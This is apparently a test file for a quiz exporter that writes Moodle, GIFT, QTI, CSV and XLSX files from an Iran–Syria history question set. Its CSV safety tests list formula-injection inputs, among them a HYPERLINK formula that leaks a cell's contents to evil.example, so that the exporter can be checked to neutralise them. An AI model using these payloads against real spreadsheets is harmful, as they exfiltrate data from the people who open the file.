import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { strFromU8, unzipSync } from 'fflate';
import { type ExportFormat, exportSet } from './export';
import { SET } from './fixtures.test-utils';
import { giftEscape } from './gift';
import { checkImport, type ImportFormat } from './import';
import {
  type PortableQuestion,
  questionName,
  SINGLE_CHOICE_TYPES,
  sourceCredit,
  toPortable,
} from './portable';
import { neutralise } from './text';

const today = new Date('2026-12-05T00:00:00Z');

/** What each format keeps of a question (the rest is in the export report). */
const kept = (format: ImportFormat, question: PortableQuestion): PortableQuestion | null => {
  const copy: PortableQuestion = structuredClone({ ...question, sources: [] });
  const dropItemFeedback = () => {
    copy.items = copy.items?.map(({ label }) => ({ label }));
  };
  if (format === 'AIKEN') {
    if (!SINGLE_CHOICE_TYPES.includes(question.type)) {
      return null;
    }
    const type =
      question.type === 'TRUE_FALSE' || question.type === 'WHICH_FIRST'
        ? question.type
        : 'SINGLE_CHOICE';
    return {
      type,
      stem: question.quote ? `${question.stem} “${question.quote}”` : question.stem,
      options: question.options?.map(({ label, correct }) => ({ label, correct })),
      explanation: '',
      sources: [],
    };
  }
  if (format === 'GIFT' && question.type === 'CHRONOLOGY') {
    copy.explanation = '';
    dropItemFeedback();
  }
  if ((format === 'GIFT' || format === 'MOODLE_XML') && question.type === 'MATCHING') {
    dropItemFeedback();
  }
  return copy;
};

/**
 * The item as a player meets it: matching pairs by label, targets as a set (formats shuffle
 * them, as we do); no empty list of near misses.
 */
const tidy = (question: PortableQuestion) => {
  const { pairs, targets, rejects, ...rest } = question;
  return {
    ...rest,
    ...(rejects?.length ? { rejects } : {}),
    ...(targets
      ? {
          targets: [...targets].sort(),
          pairs: (pairs ?? []).map((target) => targets[target]),
        }
      : {}),
  };
};

describe.each<ImportFormat>(['GIFT', 'MOODLE_XML', 'AIKEN', 'CSV', 'XLSX'])(
  'round trip through %s',
  (format) => {
    it('export → import gives the same items, and every one passes the editor rules', async () => {
      const file = await exportSet(SET, format, today);
      const check = await checkImport(format, file.content);
      expect(check.problems).toEqual([]);
      const expected = SET.questions
        .map((question) => kept(format, toPortable(question, SET.citations)))
        .filter((question): question is PortableQuestion => question !== null);
      expect(check.questions.map((entry) => tidy(entry.question))).toEqual(expected.map(tidy));
      expect(check.questions.every((entry) => entry.valid !== null)).toBe(true);
      // Imported questions carry no citation.
      expect(check.questions.every((entry) => entry.valid?.citationIds.length === 0)).toBe(true);
    });
  },
);

describe('export reports', () => {
  it('Aiken names every question it leaves out', async () => {
    const file = await exportSet(SET, 'AIKEN', today);
    const skipped = file.notes.filter((note) => note.kind === 'SKIPPED').map((n) => n.position);
    // multi-select, year, ordering, matching, short answer
    expect(skipped).toEqual([2, 4, 5, 6, 9]);
  });

  it('every lossy format says that citations have no native slot; JSON loses nothing', async () => {
    for (const format of ['GIFT', 'MOODLE_XML', 'QTI12', 'QTI21', 'CSV', 'XLSX'] as const) {
      const file = await exportSet(SET, format, today);
      expect(file.notes.some((note) => /citation/i.test(note.message))).toBe(true);
    }
    const json = await exportSet(SET, 'JSON', today);
    expect(json.notes).toEqual([]);
    const parsed = JSON.parse(json.content as string);
    expect(parsed.questions).toEqual(SET.questions);
    expect(parsed.citations).toEqual(SET.citations);
  });

  it('the citations reach the general feedback of GIFT and Moodle XML', async () => {
    for (const format of ['GIFT', 'MOODLE_XML'] as const) {
      const text = (await exportSet(SET, format, today)).content as string;
      expect(text).toContain('Syria sided with Iran');
      expect(text).toContain('Source &lt;Two&gt;');
      // Students read LMS feedback: no locator of ours ("p. 3", "paragraph at line 30").
      expect(text).not.toContain('p. 3');
    }
  });

  it('credits a source by author or publisher and title, never by our capture notes', () => {
    const src = (title: string, publisher: string, author: string | null, kind = 'NEWS') => ({
      title,
      publisher,
      author,
      kind,
    });
    expect(sourceCredit(src('Iran–Syria relations', 'Wikipedia (English)', null))).toBe(
      'Wikipedia (English), Iran–Syria relations',
    );
    expect(sourceCredit(src('IranWire article on the Iran–Syria alliance', 'IranWire', null))).toBe(
      'IranWire article on the Iran–Syria alliance',
    );
    expect(
      sourceCredit(
        src(
          "Syria's pivot and Iran's pressure reshape regional alliances (2024)",
          'Republished copy; original outlet not named',
          'Mohammad Alrumaihi',
        ),
      ),
    ).toBe(
      "Mohammad Alrumaihi, Syria's pivot and Iran's pressure reshape regional alliances (2024)",
    );
    expect(
      sourceCredit(
        src(
          'Search-results page for "x"',
          'Web search engine results page',
          null,
          'SEARCH_RESULTS',
        ),
      ),
    ).toBe('Search-results page for "x"');
  });

  it('names each question by its place and the start of its stem, in GIFT and Moodle XML', async () => {
    expect(questionName(3, 'Which Arab state sided with Iran?')).toBe(
      'Q3. Which Arab state sided with Iran?',
    );
    const long = questionName(
      1,
      'According to Wikipedia, what part did Saudi Arabia play during the Iran–Iraq War (1980–88)?',
    );
    expect(long).toBe('Q1. According to Wikipedia, what part did Saudi Arabia play during the…');
    const first = SET.questions[0]?.stem ?? '';
    const xml = (await exportSet(SET, 'MOODLE_XML', today)).content as string;
    expect(xml).toContain(`<name><text>${questionName(1, first).replace(/&/g, '&amp;')}`);
    const gift = (await exportSet(SET, 'GIFT', today)).content as string;
    expect(gift).toContain(`::${giftEscape(questionName(1, first))}::`);
    // The names survive a GIFT import (escaped colons in a title included).
    expect((await checkImport('GIFT', gift)).problems).toEqual([]);
  });

  it('names files after the set and the day', async () => {
    expect((await exportSet(SET, 'GIFT', today)).filename).toBe(
      'iran-syria-19791988-2026-12-05.gift.txt',
    );
  });
});

describe('CSV safety', () => {
  it('neutralises formula cells, has a BOM and CRLF', async () => {
    const text = (await exportSet(SET, 'CSV', today)).content as string;
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text).toContain('\r\n');
    expect(text).toContain("'=SUM(A1)");
    expect(text).not.toMatch(/(^|,)=SUM/m);
  });

  // Probe 7b: full-width operators (Excel and LibreOffice take them as the ASCII ones), leading
  // whitespace (trimmed before a spreadsheet decides) and a leading line feed passed as text.
  const HOSTILE = [
    '\uFF1DHYPERLINK("http://evil.example/?"&A2,"Click")',
    '\uFF0B1+1',
    '\uFF0D1+1',
    '\uFF20SUM(A1)',
    ' =1+1',
    '\u00A0=1+1',
    '\u3000\uFF1D1+1',
    '\t=1+1',
    '\n=1+1',
    '\r=1+1',
    "'=1+1",
  ];

  it.each(HOSTILE)('marks %j as text in the CSV and reads it back as written', async (label) => {
    const question = SET.questions[0];
    const options = question?.prompt.options;
    if (!question || !options) {
      throw new Error('fixture');
    }
    const set = {
      ...SET,
      questions: [
        {
          ...question,
          prompt: {
            ...question.prompt,
            options: options.map((o, i) => (i === 2 ? { ...o, label } : o)),
          },
        },
      ],
    };
    const text = (await exportSet(set, 'CSV', today)).content as string;
    expect(text).toContain(`"'${label.replace(/"/g, '""')}"`);
    const check = await checkImport('CSV', text);
    expect(check.problems).toEqual([]);
    // The importer trims a cell before it looks for our apostrophe, so only the text survives.
    expect(check.questions[0]?.question.options?.[2]?.label.trim()).toBe(label.trim());
  });

  it('leaves ordinary text alone', () => {
    for (const text of ['Iran', 'Syria = ally?', 'a-b', '3 + 4', 'e-mail @home', '']) {
      expect(neutralise(text)).toBe(text);
    }
  });

  it('neutralises XLSX text cells too, and keeps numbers numeric', async () => {
    const ExcelJS = (await import('exceljs')).default;
    const bytes = (await exportSet(SET, 'XLSX', today)).content as Uint8Array;
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const values = sheet?.getRow(2).values as unknown[];
    expect(values).toContain("'=SUM(A1) <b>bold</b> & co");
    const yearRow = sheet?.getRow(5).values as unknown[];
    expect(yearRow).toContain(1979);
  });
});

describe('QTI packages', () => {
  const files = async (format: ExportFormat) => {
    const zip = unzipSync((await exportSet(SET, format, today)).content as Uint8Array);
    return Object.fromEntries(Object.entries(zip).map(([name, bytes]) => [name, strFromU8(bytes)]));
  };
  const parser = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '' });

  it('1.2: a manifest naming one well-formed questestinterop with Canvas question types', async () => {
    const zip = await files('QTI12');
    const manifest = zip['imsmanifest.xml'] as string;
    expect(XMLValidator.validate(manifest)).toBe(true);
    const href = /<file href="([^"]+)"/.exec(manifest)?.[1] as string;
    const xml = zip[href] as string;
    expect(XMLValidator.validate(xml)).toBe(true);
    const doc = parser.parse(xml);
    const items = doc.questestinterop.assessment.section.item;
    expect(items).toHaveLength(SET.questions.length);
    expect(xml).toContain('multiple_answers_question');
    expect(xml).toContain('true_false_question');
    expect(xml).toContain('numerical_question');
    expect(xml).toContain('ident="general_fb"');
    expect(xml).toContain('ident="q1_1_fb"');
  });

  it('2.1: every item file is well formed and listed in the manifest with its interaction', async () => {
    const zip = await files('QTI21');
    const manifest = zip['imsmanifest.xml'] as string;
    expect(XMLValidator.validate(manifest)).toBe(true);
    const hrefs = [...manifest.matchAll(/<resource [^>]*href="([^"]+)"/g)].map((m) => m[1]);
    expect(hrefs).toHaveLength(SET.questions.length + 1);
    for (const href of hrefs) {
      expect(XMLValidator.validate(zip[href as string] as string)).toBe(true);
    }
    expect(zip['items/q5.xml']).toContain('<orderInteraction');
    expect(zip['items/q6.xml']).toContain('<matchInteraction');
    expect(zip['items/q4.xml']).toContain('toleranceMode="absolute" tolerance="1 1"');
    expect(zip['items/q9.xml']).toContain('<mapEntry mapKey="Hafiz Assad"');
  });
});

describe('typed answers in an LMS', () => {
  // Our grader folds apostrophes; Moodle and the others compare as written (audit 29, item 54:
  // Wikipedia itself writes "Baath").
  const baath = {
    ...SET,
    questions: SET.questions
      .filter((q) => q.type === 'SHORT_ANSWER')
      .map((q) => ({
        ...q,
        key: { ...q.key, answers: ["Ba'ath Party", "Ba'ath", 'Baath Party'] },
      })),
  };

  it.each<ExportFormat>(['GIFT', 'MOODLE_XML'])(
    '%s lists each name also without its apostrophe, once',
    async (format) => {
      const file = await exportSet(baath, format, today);
      const text = String(file.content);
      expect(text.match(/Baath Party/g)).toHaveLength(1);
      expect(text).toMatch(/Baath(?! Party)/);
      const check = await checkImport(format as ImportFormat, file.content);
      expect(check.problems).toEqual([]);
      expect(check.questions[0]?.question.answers).toEqual([
        "Ba'ath Party",
        'Baath Party',
        "Ba'ath",
        'Baath',
      ]);
      // Back in the editor, one spelling per form the grader tells apart.
      expect(check.questions[0]?.valid?.key.answers).toEqual(["Ba'ath Party", "Ba'ath"]);
    },
  );
});
